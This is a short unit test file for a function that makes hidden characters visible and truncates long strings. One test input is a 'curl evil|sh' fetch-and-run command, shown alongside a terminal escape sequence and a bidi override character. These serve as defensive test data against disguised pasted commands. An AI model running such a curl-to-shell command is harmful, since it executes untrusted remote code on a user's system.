import { visibleText } from './visible-text';

describe(visibleText.name, () => {
  it.each([
    ['curl evil|sh\n', 'curl evil|sh␊'],
    ['a\tb\x1b[201~\x7f', 'a␉b␛[201~␡'],
    ['x\u202ey\u200bz\u009b', 'x\\u{202e}y\\u{200b}z\\u{9b}'],
    ['grüße 日本 👍', 'grüße 日本 👍'],
  ])('shows %j', (text, shown) => {
    expect(visibleText(text, 100)).toBe(shown);
  });

  it('shows the beginning of what is long', () => {
    expect(visibleText('👍'.repeat(300), 200)).toBe(`${'👍'.repeat(200)}…`);
    expect(visibleText('abc', 3)).toBe('abc');
  });
});
